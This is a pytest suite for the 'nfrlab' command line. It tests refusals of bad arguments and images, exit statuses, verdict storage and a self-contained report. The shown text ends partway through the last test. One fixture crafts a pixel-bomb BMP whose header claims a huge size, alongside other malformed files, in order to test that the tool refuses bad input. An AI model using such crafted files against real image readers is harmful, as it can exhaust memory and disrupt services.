"""The command line from outside: one-line refusals, verdicts that merge and repeat, exit statuses, Ctrl-C."""

from __future__ import annotations

import io
import json
import os
import re
import shlex
import shutil
import signal
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager, suppress
from dataclasses import replace
from html.parser import HTMLParser
from importlib.metadata import version
from pathlib import Path
from typing import Any

import numpy as np
import numpy.typing as npt
import pytest
from jsonschema import Draft202012Validator
from PIL import Image
from typer.testing import CliRunner

from nfrlab.simulations.images import image_set
from nfrlab.verify import cli
from nfrlab.verify.commands import verify
from nfrlab.verify.court.claim import BrokenPremise, Claim, Examination, RestoredPremise
from nfrlab.verify.court.evidence import Claimed, Evidence, Finding, Kind
from nfrlab.verify.proceedings import store
from nfrlab.verify.proceedings.record import kinds_of
from nfrlab.verify.proceedings.registry import REGISTRY
from nfrlab.verify.report import html, wording
from nfrlab.verify.report.html import render

Record = dict[str, Any]
Maker = Callable[[Path], None]

SAMPLED, PICTURED = DRAWN = "thm-1-premise", "thm-2-zplus"
"""Cheap claims whose numbers depend on the random draws; those of the second on the images, too."""
FIRST = {"prop-1": "REFUTED", "prop-3-gamma-repair": "CONFIRMED", SAMPLED: "REFUTED", PICTURED: "REFUTED"}
"""The claims of the earlier results and their verdicts, in the order of the registry."""
QUICK, SLOW = "prop-3-gamma-repair", ("cascade", "activation-dominates", "prop-2", "thm-1-zplus")
"""One claim of about a second, and more than half a minute of others."""
STYLING = {"COLUMNS", "LINES", "FORCE_COLOR", "TTY_COMPATIBLE", "TTY_INTERACTIVE"}
ENVIRONMENT = {name: value for name, value in os.environ.items() if name not in STYLING}
PATIENCE = 240.0
"""Seconds after which a wait is given up: a hang, not a slow machine."""
SCHEMA = Draft202012Validator(json.loads(store.SCHEMA.read_text(encoding="utf-8")))


def script() -> str:
    """The installed console script: the one of this interpreter, else the one on the path."""
    beside = Path(sys.executable).with_name("nfrlab")
    found = str(beside) if beside.exists() else shutil.which("nfrlab")
    assert found, "the console script 'nfrlab' is not installed"
    return found


def nfrlab(*arguments: str | Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    """Run the command to its end, without a terminal."""
    return subprocess.run(
        [script(), *map(str, arguments)],
        cwd=cwd,
        env=ENVIRONMENT,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        encoding="utf-8",
        timeout=PATIENCE,
    )


def contents(folder: Path) -> dict[str, bytes]:
    """Every file below `folder`, byte by byte, but for the lock of those who write there."""
    files = (file for file in folder.rglob("*") if file.is_file() and file.name != ".writing")
    return {str(file.relative_to(folder)): file.read_bytes() for file in files}


def stored(out: Path) -> dict[str, Record]:
    """The verdicts in `out` by claim id, after validation against the published schema."""
    document = json.loads((out / "verdicts.json").read_text(encoding="utf-8"))
    SCHEMA.validate(document)
    return {verdict["id"]: verdict for verdict in document["verdicts"]}


def timeless(verdict: Record) -> Record:
    """A verdict without the only thing that may differ between two runs."""
    return {key: value for key, value in verdict.items() if key != "wall_s"}


def words(text: str) -> str:
    """`text` with line breaks and indentation undone."""
    return " ".join(text.split())


def noise(side: int = 32, seed: int = 0) -> npt.NDArray[np.uint8]:
    """A colour image without structure."""
    return np.random.default_rng(seed).integers(0, 256, (side, side, 3), dtype=np.uint8)


def encoded(pixels: npt.NDArray[Any], kind: str, **options: Any) -> bytes:
    """An image file in memory."""
    buffer = io.BytesIO()
    Image.fromarray(pixels).save(buffer, kind, **options)
    return buffer.getvalue()


@pytest.fixture(scope="module")
def workplace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder in which `nfrlab verify` was called with `--out finished`, and nothing else."""
    place = tmp_path_factory.mktemp("workplace")
    done = nfrlab("verify", *FIRST, "--out", "finished", "--jobs", "1", cwd=place)
    assert (done.returncode, done.stderr) == (0, ""), done.stderr
    return place


@pytest.fixture
def earlier(workplace: Path, tmp_path: Path) -> Path:
    """A results folder of its own with earlier verdicts and their report."""
    return Path(shutil.copytree(workplace / "finished", tmp_path / "earlier"))


@pytest.fixture(scope="module")
def pictured(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """Verdicts on a user's own images, reached by two workers, and the folder of these images."""
    place = tmp_path_factory.mktemp("pictured")
    own = place / "own images"
    (own / "deeper").mkdir(parents=True)
    Image.fromarray(noise()).save(own / "a.png")
    Image.fromarray(noise(8, seed=1)).save(own / "deeper" / "b.png")
    done = nfrlab("verify", *DRAWN, "--out", "out", "--images", own, "--jobs", "2", cwd=place)
    assert (done.returncode, done.stderr) == (0, ""), done.stderr
    return place / "out", own


# Bad input


def assert_refused(done: subprocess.CompletedProcess[str], naming: str) -> None:
    """One line that names the offending thing, exit status 2, and no word on standard output."""
    lines = done.stderr.splitlines()
    assert "Traceback" not in done.stderr, done.stderr
    assert len(lines) == 1, done.stderr
    assert lines[0].startswith("nfrlab: ")
    assert naming in lines[0]
    assert (done.returncode, done.stdout) == (2, "")


@pytest.mark.parametrize(
    ("arguments", "naming"),
    [
        (("prop-1", "prop-99"), "'prop-99'"),
        (("",), "''"),
        (("prop-1", "--profile", "fastest"), "'fastest'"),
        (("prop-1", "--seed", "-1"), "--seed"),
        (("prop-1", "--jobs", "-3"), "--jobs"),
        (("prop-1", "--images", "nowhere"), "nowhere"),
        (("prop-1", "--images", ""), "--images ''"),
        (("prop-1", "--images", os.fsdecode(b"n\xff\nm")), r"n\xff\nm"),
        (("prop-1", "--images", "/dev/zero"), "/dev/zero"),
    ],
    ids=["claim", "empty claim", "profile", "seed", "jobs", "images", "no images", "odd images", "device"],
)
def test_a_bad_argument_is_refused(arguments: Sequence[str], naming: str, earlier: Path, tmp_path: Path) -> None:
    """Catches a traceback, a wrong exit status, or a bad argument noticed only after results were touched."""
    before = contents(earlier)
    assert_refused(nfrlab("verify", *arguments, "--out", earlier, cwd=tmp_path), naming)
    assert contents(earlier) == before
    assert list(tmp_path.iterdir()) == [earlier]


def garbage(folder: Path) -> None:
    """Bytes that are no image under an image's name."""
    (folder / "bad.png").write_bytes(b"\x00these bytes are no image\xff" * 20)


def truncated_jpeg(folder: Path) -> None:
    """The first half of a JPEG."""
    whole = encoded(noise(64), "JPEG")
    (folder / "bad.jpg").write_bytes(whole[: len(whole) // 2])


def all_zero(folder: Path) -> None:
    """A black image."""
    Image.fromarray(np.zeros((16, 16, 3), np.uint8)).save(folder / "bad.png")


def float_tiff(value: float) -> Maker:
    """A floating-point TIFF with one pixel of the given value."""

    def make(folder: Path) -> None:
        pixels = np.full((16, 16), 0.5, np.float32)
        pixels[3, 4] = value
        image = Image.fromarray(pixels)
        assert image.mode == "F"
        image.save(folder / "bad.tif")

    return make


def too_small(folder: Path) -> None:
    """An image of 4 × 4 pixels."""
    Image.fromarray(noise(4)).save(folder / "bad.png")


def headless_ppm(folder: Path) -> None:
    """A PPM that ends within its header: Pillow raises a bare ValueError."""
    (folder / "bad.ppm").write_bytes(b"P6\n16 16\n")


def mistyped_tiff(folder: Path) -> None:
    """A TIFF whose strip offset is stored as a fraction: Pillow raises a TypeError."""
    data = bytearray(encoded(np.full((16, 16), 0.5, np.float32), "TIFF"))
    (table,) = struct.unpack_from("<I", data, 4)
    (count,) = struct.unpack_from("<H", data, table)
    for entry in range(table + 2, table + 2 + 12 * count, 12):
        if struct.unpack_from("<H", data, entry)[0] == 273:
            struct.pack_into("<H", data, entry + 2, 5)
    (folder / "bad.tif").write_bytes(data)


def short_tiff(folder: Path) -> None:
    """A compressed TIFF without its last bytes: Pillow warns before it fails."""
    (folder / "bad.tif").write_bytes(encoded(noise(16), "TIFF", compression="tiff_lzw")[:-40])


def pipe(folder: Path) -> None:
    """A pipe that nobody writes to."""
    os.mkfifo(folder / "bad.png")


def loop(folder: Path) -> None:
    """A link to itself."""
    (folder / "bad.png").symlink_to(folder / "bad.png")


def phone_photograph(folder: Path) -> None:
    """A kind of image that is not read."""
    (folder / "bad.heic").write_bytes(b"\0\0\0\x20ftypheic" + b"\0" * 99)


def integers_of_no_scale(folder: Path) -> None:
    """Whole numbers that do not say which of them is white."""
    Image.fromarray(noise(16)[..., 0].astype(np.int32)).save(folder / "bad.tif")


def bomb(folder: Path) -> None:
    """A few bytes that would take gigabytes."""
    data = bytearray(encoded(noise(16), "BMP"))
    struct.pack_into("<ii", data, 18, 2**20, 2**20)
    (folder / "bad.bmp").write_bytes(data)


@pytest.mark.parametrize(
    "make",
    [
        garbage,
        truncated_jpeg,
        all_zero,
        pytest.param(float_tiff(np.nan), id="nan_tiff"),
        pytest.param(float_tiff(np.inf), id="infinite_tiff"),
        too_small,
        headless_ppm,
        mistyped_tiff,
        short_tiff,
        pipe,
        loop,
        phone_photograph,
        integers_of_no_scale,
        bomb,
    ],
)
def test_a_bad_image_is_refused(make: Maker, earlier: Path, tmp_path: Path) -> None:
    """Catches an image that crashes the reader, is passed over in silence, or is refused without its name."""
    images = tmp_path / "images"
    images.mkdir()
    Image.fromarray(noise()).save(images / "a good one.png")
    make(images)
    before = contents(earlier)
    done = nfrlab("verify", "prop-1", "--images", images, "--out", earlier, cwd=tmp_path)
    assert_refused(done, str(images / "bad."))
    assert contents(earlier) == before


def test_a_folder_without_images_is_refused(earlier: Path, tmp_path: Path) -> None:
    """Catches falling back to other images, or dividing by none, where the given folder holds only text."""
    images = tmp_path / "no images"
    images.mkdir()
    (images / "notes.txt").write_text("nothing to see")
    before = contents(earlier)
    assert_refused(nfrlab("verify", "prop-1", "--images", images, "--out", earlier, cwd=tmp_path), str(images))
    assert contents(earlier) == before


def test_an_image_file_in_place_of_a_folder_is_refused(earlier: Path, tmp_path: Path) -> None:
    """Catches a file that is taken for an empty folder, or a NotADirectoryError that gets through."""
    file = tmp_path / "single.png"
    Image.fromarray(noise()).save(file)
    before = contents(earlier)
    assert_refused(nfrlab("verify", "prop-1", "--images", file, "--out", earlier, cwd=tmp_path), str(file))
    assert contents(earlier) == before


def test_an_image_that_goes_bad_in_mid_trial_is_refused(
    earlier: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Catches a traceback where an image that was looked at is replaced or taken away before it is drawn."""
    images = tmp_path / "images"
    images.mkdir()
    Image.fromarray(noise()).save(images / "a.png")
    monkeypatch.setattr(verify, "check_images", lambda *_: (images / "a.png").unlink())
    image_set(images)
    result = CliRunner().invoke(
        cli.app, ["verify", "thm-1-raw", "--images", str(images), "--out", str(earlier), "--jobs", "1"]
    )
    assert result.exit_code == 2
    assert result.stderr.splitlines() == [
        f"nfrlab: {images / 'a.png'} cannot be read (No such file or directory); name images that can"
    ]


def test_the_full_profile_needs_images_of_its_patches_size(earlier: Path, tmp_path: Path) -> None:
    """Catches a trial of many minutes that ends at an image too small for its largest patches."""
    images = tmp_path / "images"
    images.mkdir()
    Image.fromarray(noise(31)).save(images / "bad.png")
    done = nfrlab("verify", "prop-1", "--profile", "full", "--images", images, "--out", earlier, cwd=tmp_path)
    assert_refused(done, f"{images / 'bad.png'} is 31×31; images must be at least 32×32 here")


def test_what_was_done_to_images_is_said(tmp_path: Path) -> None:
    """Catches transparency that is put on white, or an image that is turned, without a word."""
    images = tmp_path / "my [red]images"
    images.mkdir()
    Image.fromarray(noise()).convert("RGBA").save(images / "opaque.png")
    Image.fromarray(np.dstack([noise(), noise()[..., :1]])).save(images / "a.png")
    exif = Image.Exif()
    exif[0x0112] = 8
    Image.fromarray(noise()).save(images / "b.jpg", exif=exif)
    done = nfrlab("verify", QUICK, "--images", images, "--out", "out", cwd=tmp_path)
    assert done.stdout.splitlines()[0] == f"{images}: 3 images; 1 turned as EXIF says; 1 with transparency, on white"


def test_images_too_dark_for_patches_are_refused(earlier: Path, tmp_path: Path) -> None:
    """Catches a crash in mid-trial on images that are readable and not all zero, but hold no patch that is not."""
    images = tmp_path / "dark"
    images.mkdir()
    pixels = np.zeros((600, 600, 3), np.uint8)
    pixels[300, 300] = 1
    Image.fromarray(pixels).save(images / "night.png")
    before = contents(earlier)
    done = nfrlab("verify", "thm-1-raw", "--images", images, "--out", earlier, "--jobs", "1", cwd=tmp_path)
    assert_refused(done, str(images))
    assert contents(earlier) == before


def test_an_out_that_cannot_be_written_is_refused(earlier: Path, tmp_path: Path) -> None:
    """Catches finding out after minutes of work that the results have nowhere to go."""
    out = earlier / "verdicts.json" / "below a file"
    before = contents(earlier)
    assert_refused(nfrlab("verify", "prop-1", "--out", out, cwd=tmp_path), str(out))
    assert contents(earlier) == before


def test_an_out_that_is_a_file_is_refused(earlier: Path, tmp_path: Path) -> None:
    """Catches overwriting a file that was named where a folder is wanted."""
    out = earlier / "report.html"
    before = contents(earlier)
    assert_refused(nfrlab("verify", "prop-1", "--out", out, cwd=tmp_path), str(out))
    assert contents(earlier) == before


NOT_VERDICTS = {
    "no JSON": b"{ these are no verdicts",
    "no text": b"\xff\xfe\x00\x01",
    "another document": b"[1, 2, 3]",
    "another version": b'{"schema_version": 99, "verdicts": []}',
    "a verdict without fields": b'{"schema_version": 1, "verdicts": [{"id": "prop-1"}]}',
}


@pytest.mark.parametrize(
    ("command", "content"),
    [
        *(pytest.param("verify", content, id=f"verify, {name}") for name, content in NOT_VERDICTS.items()),
        *(
            pytest.param("show", NOT_VERDICTS[name], id=f"show, {name}")
            for name in ("no JSON", "a verdict without fields")
        ),
    ],
)
def test_stored_verdicts_that_cannot_be_read_are_refused(
    command: str, content: bytes, earlier: Path, tmp_path: Path
) -> None:
    """Catches overwriting what a user keeps as verdicts.json, or crashing on it."""
    (earlier / "verdicts.json").write_bytes(content)
    before = contents(earlier)
    assert_refused(nfrlab(command, "prop-1", "--out", earlier, cwd=tmp_path), str(earlier / "verdicts.json"))
    assert contents(earlier) == before


def test_a_folder_called_verdicts_json_is_refused(tmp_path: Path) -> None:
    """Catches an IsADirectoryError that reaches the user."""
    out = tmp_path / "out"
    (out / "verdicts.json").mkdir(parents=True)
    assert_refused(nfrlab("verify", "prop-1", "--out", out, cwd=tmp_path), str(out))
    assert not contents(out)


def test_show_refuses_an_unknown_claim(tmp_path: Path) -> None:
    """Catches a KeyError in place of a sentence."""
    assert_refused(nfrlab("show", "unknown", cwd=tmp_path), "'unknown'")


@pytest.mark.parametrize("arguments", [("--seed", "abc"), ("--no-such-option",)], ids=["value", "option"])
def test_a_usage_error_has_exit_status_2(arguments: Sequence[str], tmp_path: Path) -> None:
    """Catches a usage error that is a crash, or that passes for an inconclusive run (status 1)."""
    done = nfrlab("verify", "prop-1", *arguments, cwd=tmp_path)
    assert done.returncode == 2
    assert arguments[0] in done.stderr
    assert "Traceback" not in done.stderr
    assert not list(tmp_path.iterdir())


# Good input


def test_version(tmp_path: Path) -> None:
    """Catches a version that is not the installed one, or that is printed below a usage error."""
    done = nfrlab("--version", cwd=tmp_path)
    assert (done.returncode, done.stdout, done.stderr) == (0, f"nfrlab {version('nfrlab')}\n", "")


@pytest.mark.parametrize(
    "command",
    [
        "claims",
        "show",
        "verify",
        "law",
        "sweep",
        "converge",
        "figures",
        "bridge",
        "rivals",
        "decisions",
        "failures",
        "audit",
        "train",
    ],
)
def test_help_says_what_each_command_does(command: str, tmp_path: Path) -> None:
    """Catches a command without help, and a first sentence that the list of commands cuts off."""
    listed = nfrlab("--help", cwd=tmp_path).stdout
    (line,) = [line for line in listed.splitlines() if line.startswith(f"  {command} ")]
    assert line.endswith((".", "?"))
    assert not line.endswith("...")
    assert line.removeprefix(f"  {command}").strip() in words(nfrlab(command, "--help", cwd=tmp_path).stdout)


def test_claims_lists_every_id(tmp_path: Path) -> None:
    """Catches a claim that is missing, or whose id is cut off so that it cannot be copied into a command."""
    done = nfrlab("claims", cwd=tmp_path)
    assert (done.returncode, done.stderr) == (0, "")
    assert set(REGISTRY) - set(done.stdout.split()) == set()


def assert_shows(text: str, claim: Claim) -> None:
    """Statement, source, premises and kinds of evidence, however the lines are broken."""
    shown = words(text)
    for part in (claim.statement, claim.source, claim.control.premise, *claim.premises, *kinds_of(claim)):
        assert words(part) in shown


def line_to_run_again(text: str) -> list[str]:
    """The one line of `nfrlab show` that can be pasted into a shell, split as a shell does."""
    (line,) = [line.strip() for line in text.splitlines() if line.strip().startswith("run again")]
    return shlex.split(line.removeprefix("run again"))


def test_show_before_any_verdict(tmp_path: Path) -> None:
    """Catches `show` demanding stored results, leaving a part out, or creating a results folder."""
    done = nfrlab("show", "prop-1", cwd=tmp_path)
    assert (done.returncode, done.stderr) == (0, "")
    assert_shows(done.stdout, REGISTRY["prop-1"])
    assert line_to_run_again(done.stdout) == ["nfrlab", "verify", "prop-1"]
    assert not list(tmp_path.iterdir())


def line_at(place: str) -> str:
    """The line of the source tree that `FILE:LINE` names."""
    file, _, number = place.partition(":")
    return (Path(cli.__file__).parents[1] / file).read_text(encoding="utf-8").splitlines()[int(number) - 1]


@pytest.mark.parametrize(
    ("name", "places"),
    [
        ("prop-1", {"examined in": "def printed("}),
        ("gbp", {"rule in": "def gbp("}),
        ("dtd", {"rule in": "def zplus(", "layer 1 in": "def z_box("}),
        ("axis", {"law in": "Family(", "sampled in": "def axis("}),
    ],
)
def test_show_says_where_the_code_is(name: str, places: dict[str, str], tmp_path: Path) -> None:
    """Catches a path that is not in the repository, and the line of a wrapper in place of what is wrapped."""
    shown = nfrlab("show", name, cwd=tmp_path).stdout
    for title, code in places.items():
        (line,) = [line.strip() for line in shown.splitlines() if line.strip().startswith(f"{title} ")]
        assert code in line_at(line.removeprefix(title).strip())


def test_show_after_a_verdict_prints_the_line_that_repeats_it(workplace: Path, tmp_path: Path) -> None:
    """Catches a line that does not run, and a second run of the same seed that ends in other numbers."""
    id = SAMPLED
    verdict = stored(workplace / "finished")[id]
    shown = nfrlab("show", id, "--out", workplace / "finished", cwd=tmp_path)
    assert (shown.returncode, shown.stderr) == (0, "")
    assert_shows(shown.stdout, REGISTRY[id])
    assert "REFUTED (control REFUTED)" in words(shown.stdout)
    command, *arguments = line_to_run_again(shown.stdout)
    assert command == "nfrlab"
    again = nfrlab(*arguments, "--out", "again", cwd=tmp_path)
    assert again.returncode == 0, again.stderr
    assert timeless(stored(tmp_path / "again")[id]) == timeless(verdict)


def test_the_line_to_run_again_is_not_broken(workplace: Path, tmp_path: Path) -> None:
    """Catches a wrapped line: pasted into a shell its first half runs, with another seed or profile."""
    longest = max(REGISTRY, key=len)
    verdict = {**stored(workplace / "finished")["prop-1"], "id": longest, "seed": 12345678901234567890}
    store.write(tmp_path, {longest: verdict}, [longest])
    done = nfrlab("show", longest, "--out", tmp_path, cwd=tmp_path)
    expected = ["nfrlab", "verify", longest, "--profile", "quick", "--seed", "12345678901234567890"]
    assert line_to_run_again(done.stdout) == expected


def test_the_line_to_run_again_names_the_images(pictured: tuple[Path, Path], tmp_path: Path) -> None:
    """Catches a line that silently runs on other images than those of the verdict shown."""
    out, own = pictured
    done = nfrlab("show", PICTURED, "--out", out, cwd=tmp_path)
    assert "--images" in done.stdout
    again = line_to_run_again(done.stdout)
    assert again[again.index("--images") + 1] == str(own)


def test_verify_stores_what_it_prints(workplace: Path) -> None:
    """Catches verdicts that break the schema, are in another order, or lack seed, profile or versions."""
    verdicts = stored(workplace / "finished")
    assert list(verdicts) == list(FIRST)
    assert {id: verdict["status"] for id, verdict in verdicts.items()} == FIRST
    for verdict in verdicts.values():
        assert verdict["control"]["status"] == "REFUTED"
        assert (verdict["seed"], verdict["profile"]) == (0, "quick")
        assert {"python", "nfrlab", "numpy"} <= set(verdict["versions"])
        assert verdict["images"] == "scikit-learn photographs"


def test_verify_leaves_nothing_but_its_results(workplace: Path) -> None:
    """Catches temporary files among the results, and caches dropped into the user's folder."""
    assert set(contents(workplace / "finished")) == {"verdicts.json", "report.html"}
    assert [path.name for path in workplace.iterdir()] == ["finished"]


def test_a_search_leaves_nothing_in_the_shared_folder(tmp_path: Path) -> None:
    """Catches what Hypothesis stores under a name that anybody could have laid a link at, or left there."""
    shared = tmp_path / "shared"
    shared.mkdir()
    environment = {name: value for name, value in ENVIRONMENT.items() if not name.startswith("HYPOTHESIS")}
    probe = """
import os, stat
from nfrlab.verify.proceedings.trial import private_folder, try_claim
try_claim("prop-2")
folder = os.environ["HYPOTHESIS_STORAGE_DIRECTORY"]
assert folder == private_folder()
assert stat.S_IMODE(os.stat(folder).st_mode) == 0o700
print(folder)
"""
    run = [sys.executable, "-c", probe]
    environment |= {"TMPDIR": str(shared)}
    folders = {
        subprocess.run(run, cwd=tmp_path, env=environment, capture_output=True, text=True, check=True).stdout
        for _ in range(2)
    }
    assert len(folders) == 2
    assert list(tmp_path.iterdir()) == [shared]
    assert list(shared.iterdir()) == []


class Page(HTMLParser):
    """What a page is made of: the ids it defines, and everything that it would load or open."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.ids: set[str] = set()
        self.targets: list[str] = []
        self.feed(text)
        self.close()
        self.targets += re.findall(r"url\(\s*['\"]?([^'\")]*)", text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Collect ids and targets."""
        self.tags.add(tag)
        for name, value in attrs:
            if name == "id" and value:
                self.ids.add(value)
            if name.split(":")[-1] in {"src", "href", "srcset", "data", "poster", "action"}:
                self.targets.append(value or "")


def assert_self_contained(out: Path, ids: Sequence[str]) -> None:
    """One page on the claims `ids` that loads nothing."""
    text = (out / "report.html").read_text(encoding="utf-8")
    page = Page(text)
    assert not page.tags & {"script", "link", "iframe", "object", "embed"}
    assert "@import" not in text
    outside = {target for target in page.targets if not target.startswith(("#", "data:"))}
    assert not outside
    assert page.ids & set(REGISTRY) == set(ids)
    assert {f"#{id}" for id in ids} <= set(page.targets)


def test_the_report_is_self_contained(workplace: Path) -> None:
    """Catches a style sheet, script or picture that would be fetched, and a claim that the report leaves out."""
    assert_self_contained(workplace / "finished", list(FIRST))


def test_links_in_the_report_lead_somewhere(pictured: tuple[Path, Path]) -> None:
    """Catches a link to a claim that has no verdict yet, or to a part of a figure that is not in the page."""
    out, _ = pictured
    verdict = {**stored(out)[PICTURED], "id": f"{PICTURED}-repair", "repairs": PICTURED}
    page = Page(render({verdict["id"]: verdict}))
    assert {target.removeprefix("#") for target in page.targets} - page.ids == set()


def test_verdicts_of_other_claims_are_merged(earlier: Path, tmp_path: Path) -> None:
    """Catches a run that drops, reorders or changes the verdicts of claims that it did not try."""
    before, id = stored(earlier), "thm-2-premise-all-repair"
    done = nfrlab("verify", id, "--out", earlier, cwd=tmp_path)
    assert (done.returncode, done.stderr) == (0, "")
    after = stored(earlier)
    assert list(after) == [*before, id]
    assert {other: after[other] for other in before} == before
    assert id in done.stdout
    assert_self_contained(earlier, list(after))


def test_another_seed_gives_other_numbers_and_replaces_the_verdict(earlier: Path, tmp_path: Path) -> None:
    """Catches a seed that is not recorded or never reaches the random numbers, and a verdict stored twice."""
    before, id = stored(earlier), SAMPLED
    done = nfrlab("verify", id, id, "--seed", "12345678901234567890", "--out", earlier, cwd=tmp_path)
    assert (done.returncode, done.stderr) == (0, "")
    after = stored(earlier)
    assert list(after) == list(before)
    assert after[id]["seed"] == 12345678901234567890
    assert after[id]["evidence"] != before[id]["evidence"]
    assert {other: after[other] for other in after if other != id} == {
        other: before[other] for other in before if other != id
    }


def test_one_worker_gives_the_verdicts_of_two(pictured: tuple[Path, Path], tmp_path: Path) -> None:
    """Catches numbers that depend on the worker, on the order of the claims, or on what else was tried before."""
    out, own = pictured
    arguments = ("--out", "again", "--images", own, "--jobs", "1")
    done = nfrlab("verify", *reversed(DRAWN), *arguments, cwd=tmp_path)
    assert (done.returncode, done.stderr) == (0, "")
    by_two, by_one = stored(out), stored(tmp_path / "again")
    assert tuple(by_two) == tuple(by_one) == DRAWN
    assert {id: timeless(by_one[id]) for id in DRAWN} == {id: timeless(by_two[id]) for id in DRAWN}


def reaches(verdict: Record) -> list[Record]:
    """What was measured under each of the stated draws."""
    return [piece["details"] for piece in verdict["evidence"] if piece["kind"] == "reach"]


def test_own_images_are_used_and_recorded(workplace: Path, pictured: tuple[Path, Path]) -> None:
    """Catches `--images` that is checked and then ignored, in the verdict or in the workers."""
    out, own = pictured
    mine, theirs = stored(out), stored(workplace / "finished")
    assert {verdict["images"] for verdict in mine.values()} == {str(own)}
    assert reaches(mine[PICTURED]) != reaches(theirs[PICTURED])
    assert mine[SAMPLED]["evidence"] == theirs[SAMPLED]["evidence"]


# Exit status 1, on made-up claims within this process


def made_up(
    id: str, trial: Sequence[Finding], control: Sequence[Finding], restored: Sequence[Finding] | None = None
) -> Claim:
    """A claim that finds what it is told; without a positive control where that is told nothing."""

    def examine(findings: Sequence[Finding]) -> Callable[[Examination], list[Evidence]]:
        return lambda exam: [
            Evidence(
                kind=Kind.MONTE_CARLO,
                statement=f"finding {number}",
                finding=finding,
                method="made up",
                miss=1e-9,
                n=100,
                interval=(0.9, 1.0),
                claimed=Claimed.exactly(1.0, 0.02),
            )
            for number, finding in enumerate(findings)
        ]

    return Claim(
        id=id,
        title="A made-up claim",
        source="nowhere",
        statement="Nothing is stated.",
        premises=("none",),
        examine=examine(trial),
        control=BrokenPremise(premise="none", examine=examine(control)),
        restored=None if restored is None else RestoredPremise(premise="all", examine=examine(restored)),
    )


SUPPORTS, REFUTES, UNDECIDED, SILENT = Finding.SUPPORTS, Finding.REFUTES, Finding.UNDECIDED, Finding.SILENT
Findings = Sequence[Finding]
OUTCOMES: list[tuple[Findings, Findings, Findings | None, str, str, int]] = [
    ([SUPPORTS], [REFUTES], None, "CONFIRMED", "REFUTED", 0),
    ([SUPPORTS], [REFUTES, SILENT], None, "CONFIRMED", "REFUTED", 0),
    ([SUPPORTS, REFUTES], [REFUTES], [SUPPORTS], "REFUTED", "REFUTED", 0),
    ([SUPPORTS, REFUTES], [REFUTES], [SILENT], "REFUTED", "REFUTED", 0),
    ([REFUTES], [REFUTES], None, "REFUTED", "REFUTED", 1),
    ([REFUTES], [REFUTES], [SUPPORTS, REFUTES], "REFUTED", "REFUTED", 1),
    ([REFUTES], [REFUTES], [SUPPORTS, UNDECIDED], "REFUTED", "REFUTED", 1),
    ([REFUTES], [REFUTES], [], "REFUTED", "REFUTED", 1),
    ([SUPPORTS], [SUPPORTS, REFUTES], None, "CONFIRMED", "REFUTED", 1),
    ([SUPPORTS], [UNDECIDED, REFUTES], None, "CONFIRMED", "REFUTED", 1),
    ([SUPPORTS, UNDECIDED], [REFUTES], None, "INCONCLUSIVE", "REFUTED", 1),
    ([SILENT], [REFUTES], None, "INCONCLUSIVE", "REFUTED", 1),
    ([], [REFUTES], None, "NOT RUN", "REFUTED", 1),
    ([SUPPORTS], [SUPPORTS], None, "CONFIRMED", "CONFIRMED", 1),
    ([REFUTES], [UNDECIDED], [SUPPORTS], "REFUTED", "INCONCLUSIVE", 1),
    ([REFUTES], [], [SUPPORTS], "REFUTED", "NOT RUN", 1),
]


def in_process(*arguments: str | Path) -> Any:
    """Run the command within this process; an exception other than an exit is raised."""
    result = CliRunner().invoke(cli.app, [*map(str, arguments)])
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result


@pytest.mark.parametrize(("trial", "control", "restored", "status", "of_control", "code"), OUTCOMES)
def test_exit_status_says_whether_all_was_decided(
    trial: Findings,
    control: Findings,
    restored: Findings | None,
    status: str,
    of_control: str,
    code: int,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Catches an open verdict, or a control that did not behave at some point, that passes for a success."""
    monkeypatch.setitem(REGISTRY, "made-up", made_up("made-up", trial, control, restored))
    result = in_process("verify", "made-up", "--jobs", "1", "--out", tmp_path)
    assert result.exit_code == code
    verdict = stored(tmp_path)["made-up"]
    assert (verdict["status"], verdict["control"]["status"]) == (status, of_control)
    assert status in result.stdout
    assert status in (tmp_path / "report.html").read_text(encoding="utf-8")
    shown = in_process("show", "made-up", "--out", tmp_path)
    assert f"{status} (control {of_control})" in words(shown.stdout)


def test_a_prediction_that_its_interval_excludes_is_called_that(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Catches a value that the margin alone admits, and that table, report and store print as if it had been found."""
    admitted = Evidence.from_interval(
        Kind.MONTE_CARLO, "E α = 1", (0.981, 0.99), Claimed.exactly(1.0, 0.02), "made up", miss=1e-9, n=100
    )
    claim = replace(made_up("made-up", [], [REFUTES]), examine=lambda exam: [admitted])
    monkeypatch.setitem(REGISTRY, "made-up", claim)
    result = in_process("verify", "made-up", "--jobs", "1", "--out", tmp_path)
    assert result.exit_code == 0
    said = "[0.9810, 0.9900] against 1 ± 0.02; excludes 1 itself"
    assert said in (tmp_path / "report.html").read_text(encoding="utf-8")
    assert "excludes 1 itself" in words(result.stdout)
    assert stored(tmp_path)["made-up"]["evidence"][0]["excluded"] is True


@pytest.mark.parametrize("order", [("decided", "open"), ("open", "decided")])
def test_one_open_claim_among_decided_ones_decides_the_exit_status(
    order: tuple[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Catches an exit status taken from the first or the last claim alone."""
    monkeypatch.setitem(REGISTRY, "decided", made_up("decided", [SUPPORTS], [REFUTES]))
    monkeypatch.setitem(REGISTRY, "open", made_up("open", [UNDECIDED], [REFUTES]))
    assert in_process("verify", *order, "--jobs", "1", "--out", tmp_path).exit_code == 1
    assert in_process("verify", "decided", "--jobs", "1", "--out", tmp_path).exit_code == 0


def test_ctrl_c_during_the_report_keeps_the_verdicts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Catches an exit status of 0 or 1, or lost verdicts, where Ctrl-C falls after the last trial."""

    def interrupted(*records: object) -> str:
        raise KeyboardInterrupt

    monkeypatch.setitem(REGISTRY, "made-up", made_up("made-up", [SUPPORTS], [REFUTES]))
    monkeypatch.setattr(html, "render", interrupted)
